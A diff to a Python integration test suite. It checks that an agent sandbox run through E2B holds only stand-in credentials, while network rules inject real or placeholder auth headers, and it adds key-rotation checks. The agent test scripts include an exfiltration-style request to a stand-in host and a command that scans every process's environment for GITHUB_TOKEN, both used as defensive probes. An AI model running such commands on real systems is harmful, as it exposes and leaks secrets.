@@ -1,9 +1,10 @@
 """Credentials the sandbox never holds, through a real Hermes against e2b-local (contracts X16,
-X17): with ``credentials`` set and the values in the profile's ``.env``, the agent's
+X17, X22): with ``credentials`` set and the values in the profile's ``.env``, the agent's
 ``printenv``, every process's environ and a search of the sandbox's files show only the
-stand-in, while the sandbox's E2B network rules (read back from e2b-local) carry the real
-header for the listed hosts only; the CLI, the doctor and errors never print a value, though
-E2B's detail hands the rules back.
+stand-in, while the sandbox's E2B network rules (read back from e2b-local) carry the header
+for the listed hosts only: by default with the placeholder of the profile's E2B secret, so no
+answer of E2B's API holds a value, and with the value itself under ``credential_store:
+rules``; the CLI, the doctor and errors never print a value.
 
 Values are shaped like no known secret, so only the mechanism under test can keep them out
 (Hermes' own redaction of secret-shaped text would hide a leak of a ``ghp_`` token)."""
@@ -26,6 +27,8 @@ OPENAI_VALUE = "plainopenaivalue93d2"
 #: stay stripped.
 ANTHROPIC_VALUE = "plainanthropicvalue7e44"
 VALUES = (GITHUB_VALUE, OPENAI_VALUE, ANTHROPIC_VALUE)
+#: The value after a rotation.
+ROTATED_VALUE = "plainrotatedvalue4a17"
 
 CREDENTIALS = {
     "GITHUB_TOKEN": {"hosts": ["api.github.com"]},
@@ -67,6 +70,38 @@ def run_logged(home, body: str) -> dict:
     return out["result"]
 
 
+def placeholder(variable: str) -> str:
+    """A regular expression for the placeholder of ``variable``'s secret in this profile."""
+    return r"\$\{e2b\.secrets\.hermes-e2b-[0-9a-f]{12}-" + variable.lower() + r"\}"
+
+
+def assert_header(rules: dict, host: str, header: str, expected: str) -> None:
+    """``host``'s one rule sets ``header`` alone, its value matching ``expected`` (a regular
+    expression)."""
+    import re
+
+    [rule] = rules[host]
+    headers = rule["transform"]["headers"]
+    assert list(headers) == [header], rules
+    assert re.fullmatch(expected, headers[header]), rules
+
+
+def requests(server) -> dict:
+    """e2b-local's request counts by label."""
+    request = urllib.request.Request(f"{server.api_url}/_e2b_local/requests",
+                                     headers={"X-API-Key": "e2b_test_listing"})
+    with urllib.request.urlopen(request, timeout=30) as response:
+        return json.loads(response.read())["routes"]
+
+
+def raw_list(server) -> str:
+    """The body of E2B's sandbox list, as any holder of the account's key reads it."""
+    request = urllib.request.Request(f"{server.api_url}/v2/sandboxes?state=running,paused",
+                                     headers={"X-API-Key": "e2b_test_listing"})
+    with urllib.request.urlopen(request, timeout=30) as response:
+        return response.read().decode()
+
+
 def network_of(e2b_local, sandbox_id: str) -> dict:
     """What e2b-local's detail says the sandbox's network is (rules verbatim, as E2B)."""
     request = urllib.request.Request(f"{e2b_local.api_url}/sandboxes/{sandbox_id}",
@@ -75,7 +110,7 @@ def network_of(e2b_local, sandbox_id: str) -> dict:
         return json.loads(response.read()).get("network") or {}
 
 
-# contract: X16
+# contract: X16, X22
 def test_the_sandbox_sees_only_stand_ins_and_its_rules_carry_the_real_headers(home, e2b_local):
     profile(home, e2b_local, credentials=CREDENTIALS)
     result = run_logged(home, """
@@ -105,27 +140,60 @@ def test_the_sandbox_sees_only_stand_ins_and_its_rules_carry_the_real_headers(ho
     files = result["files"]["output"].split()
     assert files == ["2"], f"no file with a value; the dump holds the two stand-ins: {files}"
 
+    # E2B Secrets hold the values (X22): the rules hold placeholders, and neither the
+    # detail nor the list of sandboxes carries a value.
     network = network_of(e2b_local, result["sid"])
     rules = network.get("rules") or {}
     assert sorted(rules) == ["api.github.com", "api.openai.com"], network
-    assert rules["api.github.com"] == [{"transform": {"headers": {"Authorization": f"Bearer {GITHUB_VALUE}"}}}]
-    assert rules["api.openai.com"] == [{"transform": {"headers": {"x-api-key": OPENAI_VALUE}}}]
+    assert_header(rules, "api.github.com", "Authorization", "Bearer " + placeholder("GITHUB_TOKEN"))
+    assert_header(rules, "api.openai.com", "x-api-key", placeholder("OPENAI_API_KEY"))
+    no_value(json.dumps(network), raw_list(e2b_local))
 
-    # The listing, the network view, the status and the doctor name no value, though
-    # e2b-local's detail returns them.
+    # The listing, the network view, the status and the doctor name no value.
     shown = e2b(home, "credentials", "--json")
     assert shown.returncode == 0, shown.stderr
     view = json.loads(shown.stdout)
     assert {c["name"]: c["has_value"] for c in view["credentials"]} == {"GITHUB_TOKEN": True, "OPENAI_API_KEY": True}
     [sandbox] = [s for s in view["sandboxes"] if s["sandbox_id"] == result["sid"]]
     assert sandbox["headers"] == {"api.github.com": ["Authorization"], "api.openai.com": ["x-api-key"]}
+    assert sandbox["values_in_rules"] == [], sandbox
+    assert view["store"]["store"] == "secrets", view["store"]
+    assert sorted(s["variable"] for s in view["store"]["secrets"]) == ["GITHUB_TOKEN", "OPENAI_API_KEY"], view
     outputs = [shown, e2b(home, "credentials"), e2b(home, "network"), e2b(home, "network", "--json"),
-               e2b(home, "status"), e2b(home, "doctor")]
+               e2b(home, "status"), e2b(home, "status", "--json"),
+               e2b(home, "doctor", extra_env={"HERMES_E2B_DOCTOR_OFFLINE": ""})]
     for proc in outputs:
         no_value(proc.stdout, proc.stderr)
         assert_no_key(proc.stdout, proc.stderr)
     doctor = outputs[-1].stdout
     assert "E2B credentials: GITHUB_TOKEN for api.github.com; OPENAI_API_KEY for api.openai.com" in doctor, doctor
+    assert "E2B credential store: E2B Secrets (hermes-e2b-" in doctor, doctor
+    assert "(E2B secret)" in outputs[1].stdout, outputs[1].stdout
+
+
+# contract: X22
+def test_credential_store_rules_keeps_the_value_in_the_rules_and_says_so(home, e2b_local):
+    """``credential_store: rules``: the value is in the sandbox's rules (as before E2B
+    Secrets), no secret is stored, and the CLI and the doctor say which store is used."""
+    profile(home, e2b_local, credentials={"GITHUB_TOKEN": {"hosts": ["api.github.com"]}},
+            credential_store="rules")
+    result = run_logged(home, """
+        r = {"sid": T("echo $E2B_SANDBOX_ID", task_id="default")["output"].strip()}
+        from tools.terminal_tool_lifecycle import cleanup_vm
+        cleanup_vm("default")
+        finish(r)
+    """)
+    rules = network_of(e2b_local, result["sid"]).get("rules") or {}
+    assert rules == {"api.github.com": [{"transform": {"headers": {"Authorization": f"Bearer {GITHUB_VALUE}"}}}]}, rules
+    shown = e2b(home, "credentials", "--json")
+    assert shown.returncode == 0, shown.stderr
+    view = json.loads(shown.stdout)
+    assert (view["store"]["store"], view["store"]["secrets"]) == ("rules", []), view
+    [sandbox] = [s for s in view["sandboxes"] if s["sandbox_id"] == result["sid"]]
+    assert sandbox["values_in_rules"] == ["api.github.com"], sandbox
+    doctor = e2b(home, "doctor", extra_env={"HERMES_E2B_DOCTOR_OFFLINE": ""}).stdout
+    assert "E2B credential store: network rules with the values (credential_store: rules)" in doctor, doctor
+    no_value(shown.stdout, doctor)
 
 
 # contract: X16
@@ -295,12 +363,32 @@ def test_the_agents_curl_python_and_git_reach_the_api_with_the_real_credential(h
                            "https://other.example.test/exfil", task_id="default")
             r["env"] = T("printenv GITHUB_TOKEN; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\\\0' '\\\\n' | "
                          "grep -c '^GITHUB_TOKEN=e2b-stand-in-'", task_id="default")
+            r["sid"] = T("echo $E2B_SANDBOX_ID", task_id="default")["output"].strip()
+            # A rotation: the value Hermes resolves for the variable changes (the driver has no
+            # profile scope, so Hermes reads the process environment); the next
+            # command's request carries it, after one request to E2B (the secret's update).
+            import os, urllib.request
+            def counts():
+                request = urllib.request.Request(%r + "/_e2b_local/requests",
+                                                 headers={"X-API-Key": "e2b_test_listing"})
+                return json.loads(urllib.request.urlopen(request, timeout=30).read())["routes"]
+            before = counts()
+            os.environ["GITHUB_TOKEN"] = %r
+            r["rotated"] = T("curl -sS https://api.example.test/rotated", task_id="default")
+            after = counts()
+            # What the rotation costs: requests about secrets and rules (a lease top-up the
+            # command may need is not the rotation's).
+            r["rotation_requests"] = {k: after.get(k, 0) - before.get(k, 0) for k in after
+                                      if after.get(k, 0) != before.get(k, 0)
+                                      and ("secret" in k or k == "update network")}
             from tools.terminal_tool_lifecycle import cleanup_vm
             cleanup_vm("default")
             finish(r)
-        """ % ca_pem)
+        """ % (ca_pem, server.api_url, ROTATED_VALUE))
         no_value(json.dumps(result))
+        assert ROTATED_VALUE not in json.dumps(result)
         assert result["curl"]["output"].strip() == "ok", result
+        assert result["rotated"]["output"].strip() == "ok", result
         assert result["python"]["output"].strip() == "ok", result
         stand_in = result["env"]["output"].split()[0]
         assert stand_in.startswith("e2b-stand-in-"), result
@@ -314,6 +402,13 @@ def test_the_agents_curl_python_and_git_reach_the_api_with_the_real_credential(h
         assert other[0][1]["x-leak"] == [stand_in]
         assert "authorization" not in other[0][1], other
         assert GITHUB_VALUE not in json.dumps(other)
+        # The rotation reached the upstream at the next request, with one request to E2B
+        # and no sandbox touched (X22).
+        assert by_path["/rotated"]["authorization"] == [f"Bearer {ROTATED_VALUE}"], api
+        assert result["rotation_requests"] == {"update secret": 1}, result["rotation_requests"]
+        for text in (json.dumps(network_of(server, result["sid"])), raw_list(server)):
+            no_value(text)
+            assert ROTATED_VALUE not in text
     finally:
         server.stop()
         upstream.close()
@@ -344,7 +439,8 @@ def test_hermes_own_egress_firewall_mappings_apply_without_a_second_setup(home, 
     """)
     assert result["env"].startswith("e2b-stand-in-"), result
     rules = network_of(e2b_local, result["sid"]).get("rules") or {}
-    assert rules == {"api.openai.com": [{"transform": {"headers": {"Authorization": f"Bearer {OPENAI_VALUE}"}}}]}, rules
+    assert sorted(rules) == ["api.openai.com"], rules
+    assert_header(rules, "api.openai.com", "Authorization", "Bearer " + placeholder("OPENAI_API_KEY"))
     shown = e2b(home, "credentials", "--json")
     assert shown.returncode == 0, shown.stderr
     [entry] = json.loads(shown.stdout)["credentials"]
